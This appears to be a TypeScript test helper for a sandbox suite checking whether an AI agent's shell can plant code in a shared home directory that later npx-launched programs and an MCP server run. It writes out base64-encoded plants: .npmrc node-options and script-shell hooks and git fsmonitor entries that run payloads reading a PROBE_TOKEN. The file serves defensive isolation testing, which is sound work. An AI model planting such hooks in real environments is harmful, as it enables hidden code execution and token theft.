/**
 * The planted-home attack's pieces (shared-home-attacks.test.ts): what the agent's shell writes
 * into its home for the next `npx`-launched program, the control that shows the plant live, and
 * how to read the home-probe MCP server's answer from the model requests.
 */
import { dirname } from "node:path";
import type { RecordedRequest } from "../../sandbox/anthropic-fake/types.ts";

/** The files task 1's shell plants in its home; `@W@` becomes the worktree, `@H@` the home. */
const PLANTED: Record<string, string> = {
  ".locus-payload/payload.cjs":
    'require("fs").appendFileSync("@W@/payload-ran.txt", `node payload: ${process.env.PROBE_TOKEN || "no token"}\\n`);\n',
  ".locus-payload/payload.sh":
    '#!/bin/sh\necho "sh payload: ${PROBE_TOKEN:-no token}" >> @W@/payload-ran.txt\n[ "$1" = "-c" ] && exec /bin/sh "$@"\nexit 0\n',
  ".npmrc":
    "node-options=--require=@H@/.locus-payload/payload.cjs\nscript-shell=@H@/.locus-payload/payload.sh\n",
  ".gitconfig": "[core]\n\tfsmonitor = @H@/.locus-payload/payload.sh\n",
  ".config/git/config": "[core]\n\tfsmonitor = @H@/.locus-payload/payload.sh\n",
};

/**
 * One shell line writing PLANTED into `~`, then (with `shown`, the default) showing that the
 * shell's own npm reads it. A session that runs CONTROL after planting shows the plant live
 * through the payloads' own lines, so it needs no second npm start (a second of CPU each in the sandbox).
 */
export function plant({ shown = true }: { readonly shown?: boolean } = {}): string {
  const steps = Object.entries(PLANTED).map(([path, text]) => {
    const encoded = Buffer.from(text).toString("base64");
    return `mkdir -p ~/${dirname(path)} && printf %s ${encoded} | base64 -d | sed "s|@W@|$w|g; s|@H@|$HOME|g" > ~/${path}`;
  });
  const show = shown ? ["npm config get node-options"] : [];
  return ['w="$(pwd)"', ...steps, "chmod +x ~/.locus-payload/payload.sh", ...show].join("; ");
}

/** The control: `npx` from the shell, whose home the plant is in, runs both payloads. */
export const CONTROL = "npx --yes --offline -c 'node -e 0' 2>&1; cat payload-ran.txt";

/** Every string in a request body, however deep. */
function strings(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (value !== null && typeof value === "object") return Object.values(value).flatMap(strings);
  return [];
}

/** The MCP server's answer about its home, from the tool result the model received. */
export function serverSaw(requests: readonly RecordedRequest[]): Record<string, unknown> {
  for (const text of requests.flatMap((request) => strings(request.body))) {
    const answer = /\{"home".*"hasToken":(?:true|false)\}/.exec(text)?.[0];
    if (answer !== undefined) return JSON.parse(answer) as Record<string, unknown>;
  }
  return {};
}
